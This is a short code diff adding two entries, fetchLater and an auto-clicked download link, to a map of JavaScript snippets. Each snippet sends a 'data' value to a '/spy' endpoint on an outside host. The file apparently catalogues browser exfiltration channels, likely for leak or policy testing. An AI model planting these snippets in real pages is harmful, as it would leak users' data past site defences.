@@ -40,6 +40,8 @@ const WAYS: Readonly<Record<string, string>> = {
   'speculation rules': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to + '/spy?' + data] }], prerender: [{ source: 'list', urls: [location.origin + '/ahead?' + data] }] }); document.head.append(s)`,
   frame: `const f = document.createElement('iframe'); f.src = to + '/spy?' + data; document.body.append(f)`,
   events: `new EventSource(to + '/spy?' + data)`,
+  'a deferred request': `fetchLater(to + '/spy', { method: 'POST', mode: 'no-cors', body: data })`,
+  'a download': `const a = document.createElement('a'); a.href = to + '/spy?' + data; a.download = 'x'; document.body.append(a); a.click()`,
   script: `const s = document.createElement('script'); s.src = to + '/spy/' + data; document.head.append(s)`,
 };
 
